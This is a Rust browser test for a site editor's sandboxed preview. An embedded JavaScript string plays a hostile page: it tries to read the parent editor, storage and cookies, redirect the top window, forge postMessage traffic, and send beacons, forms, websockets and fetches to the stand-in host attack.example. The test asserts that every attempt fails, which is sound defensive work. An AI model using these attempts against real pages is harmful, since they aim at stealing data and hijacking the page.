//! The page of a site with its scripts: they run as published, and reach nothing of ours. In: a site that attacks. Neighbours:
//! `site_page.rs` has the page without them, `attacks.rs` the same for texts.

use crate::engines;
use crate::site_folder::{choose_folder, open, wait_for_list, wait_for_shown};
use crate::support::{Page, Start};
use serde_json::{Value, json};

/// What a hostile page tries. Each that succeeds is told to the page around by a message, which anybody may send.
const ATTACK: &str = "
const reached = [], late = [];
const attempt = (name, run) => { try { if (run() !== false) reached.push(name); } catch { } };
const eventually = (name, run) => late.push(Promise.resolve().then(run).then(ok => { if (ok !== false) reached.push(name); }, () => {}));
attempt('the editor', () => parent.document.getElementById('editor').value);
attempt('the preview', () => parent.document.getElementById('preview').contentDocument.body.textContent);
attempt('the frames around', () => parent.frames[0].document.body);
attempt('an element around', () => frameElement ?? false);
attempt('localStorage', () => localStorage.length);
attempt('sessionStorage', () => sessionStorage.length);
attempt('cookies', () => { document.cookie = 'a=b'; return document.cookie !== ''; });
attempt('top', () => { top.location.href = 'http://attack.example/top'; });
attempt('top by a link', () => { const a = document.createElement('a'); a.href = 'http://attack.example/target'; a.target = '_top'; document.body.append(a); a.click(); return false; });
attempt('opener', () => opener.document);
attempt('a tab', () => open('http://attack.example/popup') ?? false);
attempt('a dialog', () => confirm('x'));
attempt('a form', () => { const form = document.createElement('form'); form.action = 'http://attack.example/form'; document.body.append(form); form.submit(); return false; });
attempt('a frame', () => { const frame = document.createElement('iframe'); frame.src = 'http://attack.example/frame'; document.body.append(frame); return false; });
attempt('a picture', () => { new Image().src = 'http://attack.example/picture'; return false; });
attempt('a script', () => { const script = document.createElement('script'); script.src = 'http://attack.example/script'; document.body.append(script); return false; });
attempt('a beacon', () => { navigator.sendBeacon('http://attack.example/beacon'); return false; });
attempt('the focus', () => { document.body.tabIndex = 0; self.focus(); document.body.focus(); return false; });
attempt('a socket', () => { new WebSocket('ws://attack.example/socket'); return false; });
eventually('IndexedDB', () => new Promise((done, failed) => { const asked = indexedDB.open('x'); asked.onsuccess = done; asked.onerror = failed; asked.onblocked = failed; }));
eventually('caches', () => caches.open('x'));
eventually('the folder', () => navigator.storage.getDirectory());
eventually('the network', () => fetch('http://attack.example/fetch', {mode: 'no-cors'}));
eventually('the server', () => fetch('index.html', {mode: 'no-cors'}));
eventually('a file of the page around', () => fetch('BLOB'));
eventually('a picture of the page around', () => new Promise((done, failed) => { const image = new Image(); image.onload = done; image.onerror = failed; image.src = 'PICTURE'; }));
// What the frame itself sends, forged: over the window, and over the port that it uses.
const forged = {link: 'about.html', ratio: 'NaN', loaded: true, html: 'x'};
parent.postMessage(forged, '*');
const send = MessagePort.prototype.postMessage;
MessagePort.prototype.postMessage = function (message, ...rest) {
    send.call(this, forged); send.call(this, 'text'); send.call(this, null);
    return send.call(this, message, ...rest);
};
addEventListener('load', async () => {
    await Promise.all(late);
    parent.postMessage({apercuTest: {reached, origin: self.origin, text: document.querySelector('main').textContent.trim(),
        margin: getComputedStyle(document.querySelector('main')).marginLeft, menu: self.menu ?? '', width: document.querySelector('img').naturalWidth}}, '*');
});
";

const LAYOUT: &str = "<!DOCTYPE html><html><head><title>{{ page.title }}</title><link rel=\"stylesheet\" href=\"/css/main.css\">\
    <script src=\"/js/menu.js\"></script></head><body><main>{{ content }}</main><img src=\"/dot.svg\"><a id=\"about\" href=\"/about.html\">About</a>\
    <script>ATTACK</script></body></html>";

const DOT: &str =
    "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"7\" height=\"7\"><rect width=\"7\" height=\"7\"/></svg>";

/// The last that the page with scripts told of itself, once its text holds these words.
fn told(page: &Page, words: &str) -> Value {
    page.wait_for(words, &format!("window.told?.some(told => told.text.includes({words:?}))"));
    page.js("return window.told.at(-1);", json!([]))
}

fn scripts_run_as_published_and_reach_nothing(start: Start) {
    let page = start.open();
    let made = page.try_js_async(
        "window.told = []; addEventListener('message', ({data}) => { if (data?.apercuTest) window.told.push(data.apercuTest); }); \
         const picture = new Blob(['<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"7\" height=\"7\"/>'], {type: 'image/svg+xml'}); \
         return [URL.createObjectURL(new Blob(['secret'])), URL.createObjectURL(picture)];",
        json!([]),
    );
    let made = made.expect("addresses of our own");
    let address = |at: usize| made[at].as_str().expect("an address").to_owned();
    let attack = ATTACK.replace("BLOB", &address(0)).replace("PICTURE", &address(1));
    let layout = LAYOUT.replace("ATTACK", &attack);
    choose_folder(
        &page,
        &[
            ("_config.yml", "title: Blog\n"),
            ("_layouts/post.html", &layout),
            ("css/main.css", "main { margin-left: 31px }"),
            ("js/menu.js", "window.menu = 'made';"),
            ("dot.svg", DOT),
            ("about.md", "---\ntitle: About\nlayout: post\n---\nWho we are.\n"),
            ("_posts/2020-01-01-one.md", "---\ntitle: One\nlayout: post\n---\nThe first.\n"),
        ],
    );
    wait_for_list(&page);
    open(&page, "_posts/2020-01-01-one.md", "title: One");
    wait_for_shown(&page, "The first.");
    assert_eq!(page.js("return window.told;", json!([])), json!([]), "scripts run that were not asked for");
    let (place, tabs) = (page.location(), page.tabs().len());
    page.wait_for("the bar", "document.querySelector('#preview-bar [data-action=scripts]')");
    page.server.clear_log();
    page.outside.clear();
    page.js("document.querySelector('#preview-bar [data-action=scripts]').click();", json!([]));
    let first = told(&page, "The first.");
    assert_eq!(first["reached"], json!([]));
    assert_eq!(
        json!([first["origin"], first["margin"], first["menu"], first["width"]]),
        json!(["null", "31px", "made", 7]),
        "the page as published"
    );
    page.wait_for("the frame", "document.querySelector('.with-scripts:not([data-coming])')");
    // Live when typing pauses; the last window has gone with all that ran in it.
    page.to_end();
    page.type_keys("And more");
    told(&page, "And more");
    let focused = "return document.activeElement.id;";
    page.wait_until("the focus in the editor", || page.js(focused, json!([])) == "editor");
    page.wait_for("one frame", "document.querySelectorAll('.with-scripts').length === 1");
    // Nothing of ours has moved.
    assert!(page.text().contains("And more"), "{}", page.text());
    assert_eq!((page.location(), page.tabs().len()), (place, tabs));
    let requests: Vec<String> =
        page.outside.requests().into_iter().filter(|line| line.contains("attack.example")).collect();
    assert_eq!(requests, [""; 0]);
    let asked: Vec<String> = page.server.log().into_iter().map(|request| request.target).collect();
    // What keeps the page for use without a network is asked for when the page has time.
    let is_ours = |target: &str| ["-with-scripts.html", "split", "/offline"].iter().any(|own| target.contains(own));
    let strange: Vec<&String> = asked.iter().filter(|target| !is_ours(target)).collect();
    assert!(strange.is_empty(), "{strange:?}");
    let sandbox = page.js("return document.querySelector('.with-scripts').getAttribute('sandbox');", json!([]));
    assert_eq!(sandbox, "allow-scripts");
    page.js("document.querySelector('#preview-bar [data-action=scripts]').click();", json!([]));
    page.wait_for("the page without scripts", "!document.querySelector('.with-scripts')");
    wait_for_shown(&page, "And more");

    // The frame's document cannot be kept for use without a network: the page says so, and stays.
    page.server.lose("-with-scripts.html");
    page.js("document.querySelector('#preview-bar [data-action=scripts]').click();", json!([]));
    page.wait_for_message("Is the network gone?");
    page.wait_for("no frame", "!document.querySelector('.with-scripts')");
    wait_for_shown(&page, "And more");
}
engines!(scripts_run_as_published_and_reach_nothing: Chromium Firefox WebKit);
